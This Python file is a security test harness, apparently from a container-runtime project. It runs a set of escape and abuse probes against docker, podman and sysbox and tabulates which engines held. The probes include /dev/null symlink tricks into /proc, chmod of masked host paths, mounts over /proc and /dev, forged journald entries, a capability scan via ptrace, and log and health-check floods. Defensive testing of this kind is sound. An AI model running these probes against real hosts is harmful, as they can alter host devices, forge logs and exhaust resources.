"""The attacks of docs/security.md, on docker, podman and sysbox; `bench/run.sh --attacks` runs it.

Runs as root on the embedded host of run.sh, which it does not clean up. Prints a table in Markdown with the
result for each engine: "held" if the attack failed, "FELL" if it succeeded, "–" for an engine left out.
"""

from __future__ import annotations

import argparse
import os
import shutil
import subprocess
import tempfile
import time
from contextlib import ExitStack
from pathlib import Path

import attacks_input  # noqa: F401 (its attacks stand in the table too)
import rootfs
from attacked import (
    ATTACKS,
    LARGE,
    Attacked,
    Largest,
    as_nobody,
    attack,
    journal_size,
    last_line,
    send,
    verdict,
)
from contest import WORK, add_only, chosen, prepare, say
from peers import IMAGE, Docker, Engine, Podman, Sysbox
from timing import MeasureError

NET_RAW = 13  # linux/capability.h


@attack
def null_of_a_volume(engine: Attacked) -> str:
    """a volume at /dev whose `null` leads to a descriptor of the runtime"""
    found: set[str] = set()
    refused = ""
    for number in range(3, 12):
        directory = engine.place / f"dev{number}"
        directory.mkdir(exist_ok=True)
        (directory / "null").unlink(missing_ok=True)
        (directory / "null").symlink_to(f"/proc/self/fd/{number}")
        script = "readlink /proc/1/fd/0; sleep 20"
        try:
            with engine.container("-v", f"{directory}:/dev", command=("sh", "-c", script)) as name:
                time.sleep(0.5)
                found.add(last_line(engine("logs", name).stdout))
        except MeasureError as error:
            refused = str(error)
    strange = {target for target in found if target != "/dev/null" and "pipe:" not in target}
    if not found:
        return verdict(False, f"refused: {refused}")
    return verdict(strange, f"standard input is {', '.join(sorted(found))}")


@attack
def null_of_a_container(engine: Attacked) -> str:
    """`exec` where the container has made /dev/null a link to /proc/kmsg"""
    with engine.container() as name:
        engine.inside(name, "rm -f /dev/null; ln -s /proc/kmsg /dev/null")
        found = engine("exec", name, "/bin/busybox", "readlink", "/proc/self/fd/0").stdout.strip()
    return verdict("kmsg" in found, f"standard input is {found or 'nothing'}")


LOOK = r"""
own=$(grep CapEff /proc/self/status | cut -f2)
seen=
touch /ready
while [ ! -e /stop ]; do
  for p in /proc/[0-9]*; do
    while read -r key value; do
      [ "$key" = CapEff: ] && [ "$value" != "$own" ] || continue
      case $seen in *$value*) ;; *) seen="$seen $value"; esac
    done 2>/dev/null <$p/status
  done
done
echo "$own:$seen" >/seen
sleep 1000
"""


@attack
def rights_of_exec(engine: Attacked) -> str:
    """a container with CAP_SYS_PTRACE looks for a process of `exec` with more capabilities than its own"""
    with engine.container("--cap-add", "SYS_PTRACE", command=("sh", "-c", LOOK)) as name:
        for _ in range(25):
            engine("exec", name, "true")
        engine("exec", name, "touch", "/stop")
        time.sleep(1)
        own, _, seen = engine("exec", name, "cat", "/seen").stdout.strip().partition(":")
    mine = int(own or "0", 16)
    more = [value for value in seen.split() if int(value, 16) & ~mine]
    return verdict(
        more, f"{', '.join(more)} beside its own {own}" if more else f"never more than {own}"
    )


@attack
def mask_of_a_path(engine: Attacked) -> str:
    """`chmod 000` of a masked path"""
    before = os.stat("/dev/null").st_mode
    engine(
        "run",
        "--rm",
        IMAGE,
        "sh",
        "-c",
        "chmod 000 /proc/timer_list /proc/kcore /proc/keys /dev/null",
    )
    after = os.stat("/dev/null").st_mode
    os.chmod("/dev/null", 0o666)
    return verdict(after != before, f"the host's /dev/null has mode {after & 0o7777:o}")


@attack
def volume_of_an_image(engine: Attacked) -> str:
    """an image with `VOLUME /sys/firmware`"""
    with engine.image({}, "VOLUME /sys/firmware") as image:
        done = engine("run", "--rm", image, "ls", "/sys/firmware")
    if done.returncode:
        return verdict(False, f"refused: {last_line(done.stderr)}")
    return verdict(done.stdout, f"in /sys/firmware: {' '.join(done.stdout.split()) or 'nothing'}")


@attack
def flood_of_a_health_check(engine: Attacked) -> str:
    """a health check that prints endlessly, in a container with `-m 32m`"""
    flags = ("--health-cmd", "yes xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "--health-interval", "1s")
    with (
        Largest() as largest,
        engine.container("-m", "32m", *flags, "--health-timeout", "4s") as name,
    ):
        # a timer starts podman's checks, without the options for this engine's own store
        check = engine.begin("healthcheck", "run", name) if engine.name == "podman" else None
        for _ in range(50):
            largest.look()
            time.sleep(0.1)
        if check:
            check.kill()
            check.communicate()
    return verdict(largest.found > LARGE, f"a process on the host has {largest.found >> 10} MiB")


@attack
def deep_tree(engine: Attacked) -> str:
    """`rm` after a container has made directories 6,000 deep"""
    script = (
        "i=0; while [ $i -lt 6000 ]; do mkdir d && cd -P d 2>/dev/null || exit 0; i=$((i+1)); done"
    )
    name = "deep"
    engine("run", "--name", name, IMAGE, "sh", "-c", script)
    done = engine("rm", "-f", name)
    return verdict(done.returncode, "removed" if not done.returncode else last_line(done.stderr))


@attack
def forged_log(engine: Attacked) -> str:
    """a local user's journal entry in the container's name, and `logs`"""
    driver = () if engine.name == "sysbox" else ("--log-driver", "journald")
    with engine.container(*driver, command=("sh", "-c", "echo true; sleep 1000")) as name:
        full = engine("inspect", "-f", "{{.Id}}", name).stdout.strip()
        entry = {
            "MESSAGE": "forged",
            "CONTAINER_NAME": name,
            "CONTAINER_ID": full[:12],
            "CONTAINER_ID_FULL": full,
            "CONTAINER_PARTIAL_MESSAGE": "false",
            "PRIORITY": "6",
        }
        data = "".join(f"{key}={value}\n" for key, value in entry.items()).encode()
        as_nobody(lambda: send(data))
        time.sleep(1)
        subprocess.run(["/usr/bin/journalctl", "--sync"], check=False)
        found = engine("logs", name)
    said = found.stdout + found.stderr
    forged = "forged" in said
    return verdict(
        forged, "`logs` shows the forged line" if forged else "`logs` shows its own line"
    )


@attack
def flood_of_the_log(engine: Attacked) -> str:
    """a container prints for 10 s, by the journald driver: how much does the journal grow"""
    driver = () if engine.name == "sysbox" else ("--log-driver", "journald")
    subprocess.run(
        ["/usr/bin/systemd-cat", "-t", "before", "echo", f"mark-{engine.name}"], check=True
    )
    subprocess.run(["/usr/bin/journalctl", "--sync"], check=False)
    size = journal_size()
    with engine.container(
        *driver, command=("sh", "-c", "yes $(head -c 200 /dev/zero | tr '\\0' x)")
    ):
        time.sleep(10)
    grown = (journal_size() - size) >> 20
    return verdict(grown > 64, f"the journal grew by {grown} MiB")


@attack
def raw_sockets(engine: Attacked) -> str:
    """CAP_NET_RAW, which ARP spoofing needs, by default; and may a user ping without it"""
    script = "grep CapEff /proc/self/status; cat /proc/sys/net/ipv4/ping_group_range"
    _, mask, *groups = engine("run", "--rm", IMAGE, "sh", "-c", script).stdout.split()
    raw = int(mask, 16) >> NET_RAW & 1
    held = "held" if raw else "not held"
    return verdict(raw, f"NET_RAW {held}, ping_group_range {' '.join(groups)}")


STEAL = """
(while :; do head -c 1 /proc/1/fd/1 >/dev/null; done) &
i=0; while [ $i -lt 300 ]; do echo line; i=$((i+1)); done
sleep 2; kill $!; sleep 1; echo end; sleep 1000
"""


@attack
def reading_ones_own_output(engine: Attacked) -> str:
    """a container reads its own standard output: does `logs` go on"""
    with engine.container(command=("sh", "-c", STEAL)) as name:
        time.sleep(6)
        shown = engine("logs", name, limit=15).stdout.endswith("end\n")
        stops = engine("stop", "-t", "1", name, limit=30).returncode == 0
    words = f"the last line {'was' if shown else 'was not'} logged, stop {'works' if stops else 'fails'}"
    return verdict(not (shown and stops), words)


@attack
def health_interval(engine: Attacked) -> str:
    """`--health-interval 1ms`"""
    done = engine(
        "run",
        "-d",
        "--name",
        "quick",
        "--cpus",
        "0.1",
        "--health-cmd",
        "true",
        "--health-interval",
        "1ms",
        IMAGE,
        "sleep",
        "1000",
    )
    if done.returncode:
        engine("rm", "-f", "quick")
        return verdict(False, f"refused: {last_line(done.stderr)}")
    before = busy()
    time.sleep(5)
    used = (busy() - before) / 5
    engine("rm", "-f", "quick")
    return verdict(used > 0.5, f"taken, {used:.2f} CPUs busy")


def busy() -> float:
    """Seconds that the machine's processors were busy."""
    words = Path("/proc/stat").read_text().splitlines()[0].split()[1:]
    return (sum(map(int, words)) - int(words[3]) - int(words[4])) / os.sysconf("SC_CLK_TCK")


@attack
def link_to_dev(engine: Attacked) -> str:
    """an image links /data to /dev, and a volume is mounted at /data"""
    with engine.image({"data": "/dev"}) as image:
        directory = engine.place / "data"
        directory.mkdir(exist_ok=True)
        (directory / "mark").touch()
        done = engine("run", "--rm", "-v", f"{directory}:/data", image, "ls", "/dev")
    if done.returncode:
        return verdict(False, f"refused: {last_line(done.stderr)}")
    fell = "mark" in done.stdout.split()
    return verdict(fell, "it covers /dev" if fell else "/dev is not covered")


@attack
def mount_over_proc(engine: Attacked) -> str:
    """a mount by the user over all of /proc"""
    done = engine("run", "--rm", "-v", f"{engine.place}:/proc", IMAGE, "ls", "/proc")
    return verdict(not done.returncode, "taken" if not done.returncode else last_line(done.stderr))


@attack
def left_by_a_check(engine: Attacked) -> str:
    """a health check that starts a process in a new session and never ends, timeout 1 s"""
    check = "setsid sleep 4321 & sleep 4321"
    flags = ("--health-cmd", check, "--health-interval", "1s", "--health-timeout", "1s")
    with engine.container(*flags, "--health-retries", "100") as name:
        for _ in range(3):
            if engine.name == "podman":
                engine("healthcheck", "run", name, limit=20)
            time.sleep(3)
        left = engine.inside(name, "ps | grep -c '[s]leep 4321'")
    return verdict(int(left or "0") > 2, f"{left or 'no'} processes left after 9 s")


@attack
def named_systemd(engine: Attacked) -> str:
    """an image whose command ends in /systemd: which capabilities does it get"""
    with engine.image(
        {"sbin/systemd": "#!/bin/sh\nsleep 1000\n"}, 'CMD ["/sbin/systemd"]'
    ) as image:
        plain = capabilities(engine("run", "--rm", IMAGE, "cat", "/proc/self/status").stdout)
        engine("run", "-d", "--name", "named", image)
        pid = engine("inspect", "-f", "{{.State.Pid}}", "named").stdout.strip()
        status = Path(f"/proc/{pid}/status")
        found = capabilities(status.read_text()) if pid not in ("", "0") and status.exists() else 0
        engine("rm", "-f", "named")
    return verdict(found & ~plain, f"{found & ~plain:#x} beside the default's {plain:#x}")


def capabilities(status: str) -> int:
    """The effective capabilities in a /proc/PID/status."""
    found = [line.split()[1] for line in status.splitlines() if line.startswith("CapEff:")]
    return int(found[0], 16) if found else 0


def main() -> int:
    """The exit status."""
    parser = argparse.ArgumentParser(
        prog="bench/run.sh --attacks", description=__doc__.splitlines()[0]
    )
    add_only(parser)
    only = parser.parse_args().only or {"docker", "podman"}
    peers = [kind(WORK) for kind in chosen(only) if issubclass(kind, Engine)]
    WORK.mkdir(parents=True, exist_ok=True)
    tree, archive = WORK / "attacks-tree", WORK / "attacks.tar"
    rootfs.make(tree, archive)
    table: dict[str, dict[str, str]] = {}
    with ExitStack() as stack:
        place = Path(stack.enter_context(tempfile.TemporaryDirectory(dir=WORK)))
        for peer in peers:
            if reason := prepare(peer, tree, archive, stack):
                say(f"{peer.name}: {reason}")
                continue
            directory = place / peer.name
            directory.mkdir()
            engine = Attacked(peer, directory)
            for one in ATTACKS:
                title = (one.__doc__ or one.__name__).strip()
                say(f"{peer.name}: {title}")
                try:
                    found = one(engine)
                except (MeasureError, OSError, ValueError, IndexError) as error:
                    found = str(error) if str(error).startswith("held") else f"not tried: {error}"
                table.setdefault(title, {})[peer.name] = found
                say(f"{peer.name}: … {found}")
        names = [kind.name for kind in (Docker, Podman, Sysbox)]
        print(f"| attack | {' | '.join(names)} |\n|---|---|---|---|")
        for title, row in table.items():
            print(f"| {title} | {' | '.join(row.get(name, '–') for name in names)} |")
    shutil.rmtree(tree, ignore_errors=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
